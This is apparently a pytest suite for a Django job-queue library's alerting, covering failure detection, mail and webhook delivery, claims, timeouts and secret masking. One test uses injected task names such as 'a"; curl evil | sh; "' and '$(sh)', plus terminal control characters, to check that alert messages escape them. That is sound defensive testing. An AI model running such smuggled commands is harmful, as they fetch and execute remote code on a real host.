"""Rounds of alerts: what is read, who judges, and what is told to whom."""

from __future__ import annotations

import logging
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import timedelta
from typing import Any

import django
import pytest
from django.core import mail
from django.core.mail.backends.base import BaseEmailBackend

from django_graphile_worker import conf, pause
from django_graphile_worker.routing import Place, place_of
from django_graphile_worker.setting_types import AlertSettings, alerts
from django_graphile_worker.sql import alerts as sql_alerts
from django_graphile_worker.telemetry import alert_round
from django_graphile_worker.telemetry import alerts as telemetry_alerts
from django_graphile_worker.telemetry.alert_delivery import deliver
from django_graphile_worker.telemetry.alert_round import LONGEST_ROUND, Round, read_facts, run_round
from django_graphile_worker.worker.database.connection import Database
from tests.support.admins import admins
from tests.support.factories import make_failed_job, make_job, minutes_ago
from tests.support.operating import DEAD, LIVE, execute, make_worker
from tests.support.schedule_rows import make_schedule
from tests.support.stepped_worker import stepped_workers
from tests.support.webhooks import Webhook, webhook

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture(autouse=True)
def _admins(settings: Any) -> None:
    settings.ADMINS = admins("ann@shop.example")


@pytest.fixture
def place() -> Place:
    return place_of()


@pytest.fixture
def database(place: Place) -> Iterator[Database]:
    with closing(Database(place.using, place.settings, part="test")) as database:
        yield database


@pytest.fixture
def hook() -> Iterator[Webhook]:
    with webhook() as hook:
        yield hook


Run = Callable[..., Round | None]


@pytest.fixture
def run(database: Database, place: Place) -> Run:
    """A function that runs a round with the setting ALERTS; by default, the interval since the last one is over."""

    def run(setting: Any, *, is_due: bool = True) -> Round | None:
        if is_due:
            execute("update {schema}._private_alerts set free_at = now()")
        checked = alerts(setting)
        assert checked is not None
        return run_round(database, place, checked)

    return run


def make_failing_schedule() -> None:
    job_id = make_failed_job()
    schedule = make_schedule("nightly", last_job_id=job_id)
    execute(
        "insert into {schema}._private_schedule_runs (schedule_id, tick, kind, job_id)"
        " values (%s, now(), 'on_time', %s)",
        [schedule, job_id],
    )


def make_pause() -> None:
    pause(queue="mail", create=True, by="ann", reason="The provider is down.")
    execute("update {schema}._private_pauses set paused_at = now() - interval '2 hours'")


@pytest.mark.parametrize(
    ("kind", "make", "told"),
    [
        ("oldest_ready", lambda: make_job("send", run_at=minutes_ago(6)), r"send #\d+ has been ready for 6 min"),
        ("paused", make_pause, "queue mail has been paused for 2 h by ann"),
        ("schedule_late", lambda: make_schedule("nightly", next_at=minutes_ago(3)), "nightly is late: .* 3 min ago"),
        ("schedule_missed", lambda: make_schedule("nightly", last_missed_at=minutes_ago(60)), "nightly has missed"),
        ("schedule_failing", make_failing_schedule, "last run of the schedule nightly failed"),
    ],
)
def test_condition__is_found(
    database: Database, place: Place, kind: str, make: Callable[[], object], told: str
) -> None:
    def found() -> list[str]:
        with database.cursor() as cursor:
            now = sql_alerts.read(cursor, schema=database.schema).now
        facts = read_facts(database, place, AlertSettings(to=()), now)
        assert not facts.unknown
        return [each.text for each in facts.others if each.kind == kind]

    assert found() == []
    make()
    (text,) = found()
    assert re.search(told, text), text


def test_job_of_a_task_that_no_live_worker_has__says_so(database: Database, place: Place) -> None:
    job = make_job("send", run_at=minutes_ago(6))
    make_worker(LIVE, tasks=["other"])
    (waits,) = read_facts(database, place, AlertSettings(to=()), minutes_ago(0).timestamp()).others
    expected = f"Jobs wait too long: send #{job} has been ready for 6 min (no live worker has this task)"
    assert waits.text == expected
    execute("""update {schema}._private_workers set metadata = '{"tasks": ["send"]}'""")
    (waits,) = read_facts(database, place, AlertSettings(to=()), minutes_ago(0).timestamp()).others
    assert waits.text.endswith("has been ready for 6 min")


def test_item_of_the_crontab_that_is_late__is_found(database: Database, place: Place) -> None:
    settings = place.settings.replace(crontab="* * * * * count_orders ?id=counted")
    place = Place(using=place.using, installation=place.installation, settings=settings)
    known_since = minutes_ago(10)
    execute("insert into {schema}._private_known_crontabs values ('counted', %s, null)", [known_since])
    now = known_since.timestamp() + 600
    (late,) = read_facts(database, place, AlertSettings(to=()), now).others
    assert re.search("The schedule counted is late: it was due (9|10) min ago", late.text), late.text


def test_old_transaction_and_workers__are_found(database: Database, place: Place, raw_connection: Any) -> None:
    make_worker(DEAD, beat=minutes_ago(5))
    snapshot = raw_connection(autocommit=False, application_name="report")
    snapshot.execute("set transaction isolation level repeatable read")
    snapshot.execute("select 1")
    now = snapshot.execute("select extract(epoch from now())::float8").fetchone()[0]
    settings = AlertSettings(to=(), old_transaction=1e-6)
    facts = read_facts(database, place, settings, now)
    assert facts.alive_since is None
    pid = snapshot.info.backend_pid
    (held,) = (each for each in facts.others if each.subject == f"session {pid}")
    assert held.text.startswith(f"The session {pid} (report, idle in transaction) has held vacuum back for ")
    assert f"select pg_terminate_backend({pid});" in held.detail
    second = raw_connection(autocommit=False)
    second.execute("set transaction isolation level repeatable read")
    second.execute("select 1")
    subjects = {each.subject for each in read_facts(database, place, settings, now).others}
    assert subjects >= {f"session {pid}", f"session {second.info.backend_pid}"}
    make_worker(LIVE)
    alive_since = read_facts(database, place, settings, now).alive_since
    assert alive_since is not None
    assert now - alive_since == pytest.approx(3600, abs=60)


def lived_before(database: Database, place: Place) -> float:
    now = minutes_ago(0).timestamp()
    lived_at = read_facts(database, place, AlertSettings(to=()), now).lived_at
    return -1.0 if lived_at is None else (now - lived_at) / 60


def test_workers_that_are_gone__have_left_when_they_lived(database: Database, place: Place) -> None:
    assert lived_before(database, place) == -1.0
    make_worker(DEAD, beat=minutes_ago(40))
    assert lived_before(database, place) == pytest.approx(40, abs=0.1)
    execute("insert into {schema}._private_backlog_samples (minute, sampled_at) values (%s, %s)", [minutes_ago(30)] * 2)
    assert lived_before(database, place) == pytest.approx(30, abs=0.1)
    execute(
        "insert into {schema}._private_events (kind, severity, subject, first_at, last_at, details)"
        " values ('worker_stopped', 1, 'host', %s, %s, '{}')",
        [minutes_ago(20)] * 2,
    )
    assert lived_before(database, place) == pytest.approx(20, abs=0.1)


def test_reading_that_takes_too_long__is_unknown(
    database: Database, place: Place, monkeypatch: pytest.MonkeyPatch, raw_connection: Any, worker_schema: str
) -> None:
    make_failed_job()
    monkeypatch.setattr(alert_round, "LONGEST_READING", 0.05)
    raw_connection(autocommit=False).execute(f'lock table "{worker_schema}"._private_schedules')
    facts = read_facts(database, place, AlertSettings(to=()), 0.0)
    assert facts.unknown == {"schedule_late", "schedule_missed", "schedule_failing"}
    assert len(facts.errors) == 1


def test_many_failures__are_one_mail_that_says_what_to_do(run: Run) -> None:
    for _ in range(30):
        make_failed_job("send", error="OSError: password=hunter2\nTraceback")
    run("mail_admins")
    (message,) = mail.outbox
    assert message.subject == "[Django] 30 jobs of send failed permanently: OSError"
    assert message.to == ["ann@shop.example"]
    for line in ("OSError: password=••••••", "graphile_worker errors --task send", '"IGNORE": ["send"]'):
        assert line in message.body
    run("mail_admins")
    assert len(mail.outbox) == 1


def fail_in_tasks(prefix: str, tasks: int, number: int, name: str = "'OSError'") -> None:
    """Make tasks whose jobs failed; ``name`` is SQL, in which ``m`` numbers the jobs of a task."""
    execute(
        "insert into {schema}._private_tasks (identifier)"
        " select %s || n from generate_series(1, %s) as n on conflict do nothing",
        [prefix, tasks],
    )
    execute(
        "insert into {schema}._private_jobs (task_id, payload, attempts, max_attempts, last_error)"
        f" select id, '{{}}', 1, 1, {name} || ': no' from {{schema}}._private_tasks, generate_series(1, %s) as m"
        " where identifier like %s || '%%'",
        [number, prefix],
    )


def test_new_failures_among_hundreds_of_old_kinds__are_told(run: Run) -> None:
    fail_in_tasks("old", 250, 1)
    run("mail_admins")
    assert mail.outbox[0].subject.startswith("[Django] 250 alerts: ")
    fail_in_tasks("new", 5, 101)
    run("mail_admins")
    assert mail.outbox[1].subject.startswith("[Django] 5 alerts: 101 jobs of new")
    fail_in_tasks("names", 1, 230, "translate(m::text, '0123456789', 'abcdefghij') || 'Error'")
    run("mail_admins")
    assert mail.outbox[2].subject.startswith("[Django] 230 alerts: ")
    run("mail_admins")
    assert len(mail.outbox) == 3


def test_more_kinds_of_errors_than_are_judged__are_said_once_and_none_is_over(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(alert_round, "MAX_ERRORS", 10)
    monkeypatch.setattr(telemetry_alerts, "QUIET_ROUNDS", 0)
    fail_in_tasks("told", 9, 1)
    run("mail_admins")
    fail_in_tasks("later", 15, 1)
    fail_in_tasks("large", 1, 2)
    for _ in range(3):
        run("mail_admins")
    assert mail.outbox[1].subject.startswith("[Django] ")
    assert "2 jobs of large1 failed permanently" in mail.outbox[1].body
    bodies = "".join(str(each.body) for each in mail.outbox)
    assert "Over: " not in bodies
    assert bodies.count("There are more than 10 kinds of errors") == 1
    execute("delete from {schema}._private_jobs")
    run("mail_admins")
    assert "Over: There are more than 10 kinds of errors" in mail.outbox[-1].body


def test_judge_that_died_before_it_stored__has_another_tell_again(
    run: Run, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_failed_job()
    run({"TO": "mail_admins", "IGNORE": ["*"]})
    store = sql_alerts.store

    def die_at_the_end(*args: Any, is_over: bool, **kwargs: Any) -> bool:
        if is_over:
            raise KeyboardInterrupt
        return store(*args, is_over=is_over, **kwargs)

    with monkeypatch.context() as killed, pytest.raises(KeyboardInterrupt):
        killed.setattr(sql_alerts, "store", die_at_the_end)
        run("mail_admins")
    assert run("mail_admins", is_due=False) is None
    ((free_in,),) = execute("select extract(epoch from free_at - now())::float8 from {schema}._private_alerts")
    assert 0 < free_in <= LONGEST_ROUND
    run("mail_admins")
    run("mail_admins")
    assert len(mail.outbox) == 2


def test_judge_that_died_at_a_destination__has_another_tell_that_one_and_what_waits(
    run: Run, hook: Webhook, monkeypatch: pytest.MonkeyPatch
) -> None:
    def die_at_the_webhook(message: Any, destination: str, place: Place) -> str:
        if destination == hook.url:
            raise KeyboardInterrupt
        return deliver(message, destination, place)

    to = ["mail_admins", hook.url, "task:page_oncall"]
    make_failed_job("send", error="OSError: refused")
    with monkeypatch.context() as killed, pytest.raises(KeyboardInterrupt):
        killed.setattr(f"{alert_round.__name__}.deliver", die_at_the_webhook)
        run(to)
    # What happened is over before another judges, and is told nevertheless.
    execute("delete from {schema}._private_jobs")
    done = run(to)
    assert done is not None
    assert [name for name, _ in done.told] == ["http://127.0.0.1/…", "task:page_oncall"]
    assert [each["subject"] for each in hook.posted] == ["1 job of send failed permanently: OSError"]
    assert len(mail.outbox) == 1


def test_judge_whose_claim_has_expired__tells_nothing(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    read = alert_round.read_facts

    def read_slowly(*args: Any) -> Any:
        execute("update {schema}._private_alerts set claimed_by = 'next'")
        return read(*args)

    monkeypatch.setattr(alert_round, "read_facts", read_slowly)
    make_failed_job()
    assert run("mail_admins") == Round([], [])
    assert mail.outbox == []


def test_claim_of_before_the_clock_went_back__is_free(run: Run) -> None:
    run({"TO": "mail_admins", "INTERVAL": 600})
    assert run({"TO": "mail_admins", "INTERVAL": 600}, is_due=False) is None
    execute("update {schema}._private_alerts set free_at = now() + interval '605 seconds'")
    assert run({"TO": "mail_admins", "INTERVAL": 600}, is_due=False) is not None


def test_state_of_another_release__counts_as_none(run: Run) -> None:
    make_failed_job()
    run("mail_admins")
    execute("""update {schema}._private_alerts set state = '{"version": 0, "firing": "?", "pending": {"a": [[1]]}}'""")
    run("mail_admins")
    assert len(mail.outbox) == 2


def test_judge_that_comes_back_too_late__stores_nothing(database: Database) -> None:
    with database.cursor() as cursor:
        sql_alerts.claim(cursor, "slow", schema=database.schema, seconds=0.0, longest=60.0)
        assert sql_alerts.claim(cursor, "next", schema=database.schema, seconds=60.0, longest=60.0)
        assert not sql_alerts.store(cursor, "slow", {"a": 1}, schema=database.schema, seconds=0.0)
        assert sql_alerts.read(cursor, schema=database.schema).state == {}


def test_destination_that_fails__is_told_later_and_the_others_only_once(
    run: Run, hook: Webhook, caplog: pytest.LogCaptureFixture
) -> None:
    to = ["mail_admins", hook.url]
    hook.status = 302
    make_failed_job("send", error="KeyError: '<!channel>'")
    with caplog.at_level(logging.ERROR):
        done = run(to)
    assert done is not None
    assert done.failed == [("http://127.0.0.1/…", "it answered 302 Found")]
    assert "Alerts were not delivered to http://127.0.0.1/…: it answered 302 Found" in caplog.text
    assert "s3cret" not in caplog.text + str(execute("select state from {schema}._private_alerts"))
    hook.status = 200
    make_failed_job("other", error="OSError: refused")
    run(to)
    assert [len(each["alerts"]) for each in hook.posted] == [1, 2]
    assert hook.posted[1]["text"].startswith("[Django] 2 alerts: 1 job of ")
    assert "&lt;!channel&gt;" in hook.posted[1]["text"]
    run(to)
    assert (len(hook.posted), len(mail.outbox)) == (2, 2)


def test_end_that_a_destination_did_not_take__is_told_later(
    run: Run, hook: Webhook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(telemetry_alerts, "QUIET_ROUNDS", 0)
    make_failed_job("send", error="OSError: refused")
    run(hook.url)
    execute("delete from {schema}._private_jobs")
    hook.status = 500
    run(hook.url)
    hook.status = 200
    run(hook.url)
    run(hook.url)
    _, refused, taken = hook.posted
    assert refused == taken
    assert "Over: 1 job of send failed permanently: OSError.\n  No such job is left. It began at" in taken["text"]
    assert "To be told less" not in taken["text"]


def test_many_alerts__are_one_short_message(run: Run) -> None:
    for number in range(25):
        make_failed_job(f"task{number}")
    run("mail_admins")
    (message,) = mail.outbox
    assert message.subject.startswith("[Django] 25 alerts: 1 job of task")
    assert message.body.count("failed permanently") == 20
    assert "And 5 more." in message.body


@pytest.mark.parametrize("answer", ["a port without a server", "a server that hangs"])
def test_webhook_without_an_answer__is_logged_without_its_address(
    run: Run, hook: Webhook, answer: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr("django_graphile_worker.telemetry.alert_delivery.SERVER_TIMEOUT", 0.05)
    hook.answers.clear()
    make_failed_job()
    done = run(hook.url if answer == "a server that hangs" else "http://127.0.0.1:9/services/s3cret")
    assert done is not None
    ((name, why),) = done.failed
    assert "s3cret" not in name + why + caplog.text
    assert why.startswith("TimeoutError" if answer == "a server that hangs" else "URLError: [Errno 111]")


def test_webhook_that_takes_too_long__holds_up_neither_the_others_nor_the_next_round(
    run: Run, hook: Webhook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("django_graphile_worker.telemetry.alert_delivery.LONGEST_DELIVERY", 0.1)
    hook.answers.clear()
    to = [hook.url, "mail_admins"]
    make_failed_job()
    for why in ("it took longer than 0.1 s", "the delivery of an earlier round has not ended"):
        done = run(to)
        assert done is not None
        assert done.failed == [("http://127.0.0.1/…", why)]
    assert (len(hook.posted), len(mail.outbox)) == (1, 1)
    hook.answers.set()
    for thread in threading.enumerate():
        if thread.name == "graphile-worker-alert":
            thread.join()
    monkeypatch.undo()
    done = run(to)
    assert done is not None
    assert [name for name, _ in done.told] == ["http://127.0.0.1/…"]


@pytest.mark.skipif(django.VERSION >= (6, 1), reason="the project sets the timeout, in MAILERS")
def test_mail__has_a_timeout_where_the_backend_has_one(run: Run, settings: Any) -> None:
    make_failed_job()
    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
        settings.EMAIL_HOST, settings.EMAIL_PORT = server.getsockname()
        settings.EMAIL_TIMEOUT = None
        with pytest.MonkeyPatch.context() as patched:
            patched.setattr("django_graphile_worker.telemetry.alert_delivery.SERVER_TIMEOUT", 0.05)
            patched.setattr("django_graphile_worker.telemetry.alert_delivery.LONGEST_DELIVERY", 2.0)
            done = run("mail_admins")
    assert done is not None
    assert [why.endswith("timed out") for _, why in done.failed] == [True]
    settings.EMAIL_BACKEND = f"{__name__}.BackendWithoutTimeout"
    done = run("mail_admins")
    assert done is not None
    assert [name for name, _ in done.told] == ["mail_admins"]


class BackendWithoutTimeout(BaseEmailBackend):
    def __init__(self, fail_silently: bool = False) -> None:
        super().__init__(fail_silently=fail_silently)

    def send_messages(self, email_messages: Any) -> int:
        return len(email_messages)


def test_names_that_anybody_can_choose__are_neither_commands_nor_control_characters(run: Run) -> None:
    make_failed_job('a"; curl evil | sh; "', error="\x1b[2JOSError: \x1b[31mred\u202e")
    make_failed_job("b\x1b[2J'$(sh)", error="KeyError: 'x'")
    run("mail_admins")
    (message,) = mail.outbox
    assert (message.subject + str(message.body).replace("\n", "")).isprintable()
    body = str(message.body)
    assert "errors --task 'a\"; curl evil | sh; \"'\n" in body
    assert "errors --task 'b\\x1b[2J'\"'\"'$(sh)'\n" in body
    assert "\\x1b[31mred\\u202e" in body


def test_several_kinds__are_counted_without_those_that_are_over_and_have_their_settings(
    run: Run, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(telemetry_alerts, "QUIET_ROUNDS", 0)
    make_failed_job("a", error="OSError: refused")
    make_failed_job("b", error="OSError: refused")
    with caplog.at_level(logging.INFO):
        run("mail_admins")
    assert "An alert was delivered to mail_admins (sent to 1 address): 2 alerts: 1 job of " in caplog.text
    execute("delete from {schema}._private_jobs")
    make_pause()
    make_job("send", run_at=minutes_ago(6))
    run("mail_admins")
    assert re.match(r"\[Django\] 2 alerts: Jobs wait too long: send #", str(mail.outbox[1].subject))
    body = str(mail.outbox[1].body)
    assert body.count("Over: ") == 2
    assert 'in GRAPHILE_WORKER["ALERTS"]: "IGNORE" for some, or "OLDEST_READY": None, or "PAUSED": None.' in body
    execute("delete from {schema}._private_jobs")
    execute("delete from {schema}._private_pauses")
    run("mail_admins")
    assert mail.outbox[2].subject.startswith("[Django] Over: 2 alerts: Jobs wait")


def test_task__gets_a_job_with_the_alert(run: Run) -> None:
    make_failed_job("send", error="OSError: refused")
    run("task:page_oncall")
    ((payload,),) = execute(
        "select payload from {schema}._private_jobs as job join {schema}._private_tasks as task on task.id = task_id"
        " where identifier = 'page_oncall'"
    )
    (alert,) = payload["alerts"]
    assert (alert["phase"], alert["kind"], alert["subject"], alert["error"]) == (
        "began",
        "permanently_failed",
        "send",
        "OSError",
    )
    assert payload["subject"] in payload["text"]


def test_worker__judges_in_its_turn_and_does_nothing_without_the_setting() -> None:
    with stepped_workers() as build:
        assert build().alerting is None
        worker = build(alerts={"TO": ["mail_admins"], "INTERVAL": timedelta(seconds=5)})
        service = worker.alerting
        assert service is not None
        assert service in worker.outer_services()
        assert service.step() <= 5.0
        make_failed_job()
        assert mail.outbox == []
        service.step()
        assert len(mail.outbox) == 1
        service.close()


def test_process_that_replaces_another__judges_at_once() -> None:
    make_failed_job()
    with stepped_workers() as build:
        worker = build(alerts="mail_admins")
        worker.is_successor = True
        service = worker.alerting
        assert service is not None
        service.step()
        assert len(mail.outbox) == 1
        service.close()


def test_worker_without_rights__says_so_and_goes_on(caplog: pytest.LogCaptureFixture) -> None:
    with stepped_workers() as build:
        service = build(alerts="mail_admins").alerting
        assert service is not None
        service.step()
        execute("alter table {schema}._private_alerts rename to hidden")
        try:
            assert service.step() > 1.0
        finally:
            execute("alter table {schema}.hidden rename to _private_alerts")
        assert "Alerts are not judged: relation" in caplog.text
        service.close()


def test_settings__do_not_show_the_address_of_a_webhook() -> None:
    assert "s3cret" not in repr(conf.Settings.from_mapping({"ALERTS": "https://chat.example/s3cret"}))
